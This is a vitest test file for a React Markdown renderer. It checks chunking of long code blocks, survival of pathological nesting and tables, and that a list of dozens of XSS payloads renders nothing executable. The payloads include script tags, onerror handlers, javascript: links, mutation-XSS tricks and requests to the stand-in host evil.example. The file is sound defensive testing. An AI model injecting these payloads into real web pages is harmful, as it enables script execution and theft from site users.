import { render } from '@testing-library/react'
import type { Root, RootContent } from 'mdast'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { expect, test } from 'vitest'
import { Markdown } from '../../../renderer/markdown/markdown.tsx'
import { shapeLengths, shapeNamed } from '../../support/pathological-texts.ts'

test('code of very many lines is divided into parts, which are laid out when they are seen', () => {
  const lines = Array.from({ length: 2_000 }, (_, index) => `line ${index}`).join('\n')
  const tree: Root = { type: 'root', children: [{ type: 'code', value: lines }] }
  const noLinks = { photoAddress: () => '', openLink: () => {} }
  const { container } = render(<Markdown tree={tree} {...noLinks} />)
  const parts = [...container.querySelectorAll('pre [data-part]')]
  expect(parts).toHaveLength(4)
  expect(container.querySelector('pre')?.textContent.trimEnd()).toBe(lines)
  expect(parts[1]?.textContent.startsWith('line 500\n')).toBe(true)
})

const attacks = [
  '<script>attack()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '<img src=x onerror=attack()>',
  '<img src="x" onerror="attack()" srcset="https://evil.example/a 1x">',
  '<picture><source srcset="https://evil.example/a"><img src="photo:x"></picture>',
  '<svg onload=attack()><script>attack()</script><a xlink:href="javascript:attack()">x</a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<iframe src="javascript:attack()" srcdoc="<script>attack()</script>"></iframe>',
  '<object data="javascript:attack()"><embed src="javascript:attack()">',
  '<a href="javascript:attack()">x</a>',
  '<a href="JaVaScRiPt:attack()">x</a>',
  '<a href="java&#10;script:attack()">x</a>',
  '<a href=" &#14; javascript:attack()">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;attack()">x</a>',
  '<a href="data:text/html,<script>attack()</script>">x</a>',
  '<a href="vbscript:attack()">x</a>',
  '<a href="https://example.org" target="_blank" ping="https://evil.example" onclick="attack()" download>x</a>',
  '[x](javascript:attack())',
  '[x](JAVASCRIPT:attack())',
  '[x](<javascript&colon;attack()>)',
  '[x]( javascript:attack() "t")',
  '![x](javascript:attack())',
  '![x" onerror="attack()](photo:x)',
  '<javascript:attack()>',
  '[x][r]\n\n[r]: javascript:attack()',
  '<form action="https://evil.example"><button formaction="javascript:attack()">x</button><input type=image src=x onerror=attack()></form>',
  '<input autofocus onfocus=attack()>',
  '<details ontoggle=attack() open><summary onclick=attack()>x</summary></details>',
  '<video autoplay src=https://evil.example/x onloadstart=attack()><source onerror=attack()></video>',
  '<audio src=x onerror=attack()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:attack()">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<div class="dialog save-state" tabindex="1" accesskey="s" contenteditable>x</div>',
  '<template><img src=x onerror=attack()></template>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<body onload=attack()><html onclick=attack()>',
  '<marquee onstart=attack()>x</marquee><blink>x</blink><bgsound src="javascript:attack()">',
  '<isindex type=image src=1 onerror=attack()>',
  '<table background="javascript:attack()"><td background="x">x</td></table>',
  '<x onclick=attack() style="x">x</x>',
  '<a id="constructor" name="body">x</a><img name="cookie" id="getElementById">',
  '<!--><img src=x onerror=attack()>-->',
  '<![CDATA[<img src=x onerror=attack()>]]>',
  '<?php <img src=x onerror=attack()> ?>',
  '<img src="photo:a2f4d3c0-1111-4222-8333-444455556666/../../x" onload=attack()>',
  '<p><b><i><img src=x onerror=attack()//></i></b>',
  '`` ` ``<img/src=x/onerror=attack()>',
  '| <img src=x onerror=attack()> |\n| - |\n| <script>attack()</script> |',
  'text[^1]\n\n[^1]: <img src=x onerror=attack()> [x](javascript:attack())',
  '[^javascript:attack()]\n\n[^javascript:attack()]: x',
  '# <img src=x onerror=attack()>',
  '```html onload=attack()\n<script>attack()</script>\n```',
  '```"><script>attack()</script>\nx\n```',
]

/** Each attribute that an element of a post may have, and its allowed values. */
const permitted: Record<string, RegExp> = {
  href: /^(https?:|mailto:|#post-)/,
  src: /^trip:\/\/here\/[0-9a-f-]{36}$/,
  id: /^post-/,
  class: /^(|post(-picture-missing)?|footnotes|footnote-return|language-\S+|task-list-item|contains-task-list)$/,
  // Footnotes are focused when their number is followed, and long code is scrolled by keyboard.
  tabindex: /^(-1|0)$/,
  type: /^checkbox$/,
  decoding: /^async$/,
}
const harmless = new Set('title alt aria-label checked disabled start open colspan rowspan value lang dir'.split(' '))
const elements = new Set(
  'article section p div span h1 h2 h3 h4 h5 h6 blockquote pre code ul ol li input table thead tbody tr th td a img'
    .concat(' details summary figure figcaption sup sub b i em strong del s br hr caption dl dt dd')
    .split(' '),
)

function violations(container: HTMLElement): string[] {
  return Array.from(container.querySelectorAll('*')).flatMap((element) => {
    const tagName = element.tagName.toLowerCase()
    const wrong = Array.from(element.attributes).filter(
      ({ name, value }) => !harmless.has(name) && !permitted[name]?.test(value),
    )
    return [
      ...(elements.has(tagName) ? [] : [tagName]),
      ...wrong.map(({ name, value }) => `${name}="${value}" on ${tagName}`),
    ]
  })
}

function show(tree: Root): HTMLElement {
  const { container } = render(
    <article className="post">
      <Markdown tree={tree} photoAddress={(id) => `trip://here/${id}`} openLink={() => undefined} />
    </article>,
  )
  return container
}

test.each(attacks)('nothing runs, loads or navigates: %s', (attack) => {
  for (const markdown of [attack, `Before ${attack} after`, `- item\n\n  ${attack}\n\n> ${attack}`]) {
    expect(violations(show(unified().use(remarkParse).use(remarkGfm).parse(markdown)))).toEqual([])
  }
})

test('a text of ten thousand nested quotes is shown as words', () => {
  let node: RootContent = { type: 'paragraph', children: [{ type: 'text', value: 'the bottom' }] }
  for (let level = 0; level < 10_000; level++) node = { type: 'blockquote', children: [node] }
  const container = show({
    type: 'root',
    children: [node, { type: 'paragraph', children: [{ type: 'text', value: 'below' }] }],
  })
  expect(container.querySelector('blockquote')).toBeNull()
  expect(Array.from(container.querySelectorAll('p'), (p) => p.textContent)).toEqual(['the bottom', 'below'])
})

test('HTML that is nested a thousand deep is shown as words', () => {
  const container = show({ type: 'root', children: [{ type: 'html', value: `${'<div>'.repeat(1000)}the bottom` }] })
  expect(container.querySelectorAll('div').length).toBeLessThan(10)
  expect(container.textContent).toContain('the bottom')
})

test('a table whose short rows would be filled up to millions of cells is shown as words', () => {
  const text = shapeNamed('a wide head over short rows').write(shapeLengths.small)
  const container = show(unified().use(remarkParse).use(remarkGfm).parse(`${text}\n\nbelow`))
  expect(container.querySelector('table')).toBeNull()
  expect(container.textContent).toContain('a a a')
  expect(container.textContent).toContain('below')
})
